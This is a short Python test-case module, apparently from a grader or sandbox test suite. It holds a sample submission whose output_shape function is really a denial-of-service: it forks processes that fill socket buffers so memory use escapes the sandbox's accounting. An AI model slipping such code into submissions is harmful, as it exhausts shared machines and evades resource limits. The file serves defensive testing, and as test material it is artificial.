"""Hold memory in the buffers of sockets and pipes, of many processes, where nobody counts it."""

from ._tools import KEPT, PARAMETERS, RELU, hand_in

EXPECTED = KEPT
STOCK = "unsafe: it would fill the memory of the machine"
CODE = """\
import os
import socket
import time

held = []


def fill():
    try:
        while True:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
                end.setblocking(False)
                try:
                    while True:
                        end.send(b"x" * 2**16)
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(60)


def output_shape(*args, **kwargs):
    for _ in range(4):
        if os.fork() == 0:
            fill()
            os._exit(0)
    time.sleep(60)
"""


def submission(released):
    return hand_in(released, output_shape=CODE, relu_forward=RELU, count_parameters=PARAMETERS)
